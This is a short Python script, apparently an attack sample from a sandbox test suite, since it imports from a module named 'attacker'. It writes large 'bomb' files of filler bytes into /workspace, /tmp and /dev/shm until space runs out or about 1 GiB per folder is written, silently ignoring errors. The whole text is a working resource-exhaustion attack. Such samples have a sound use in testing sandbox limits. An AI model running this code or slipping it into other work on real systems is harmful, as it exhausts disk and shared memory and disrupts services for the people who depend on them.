from attacker import finish

block = b"x" * (1 << 16)
for folder in ("/workspace", "/tmp", "/dev/shm"):
    try:
        with open(f"{folder}/bomb", "wb", buffering=0) as file:
            for _ in range(16 << 10):
                if file.write(block) < len(block):
                    break
    except OSError:
        pass
finish()
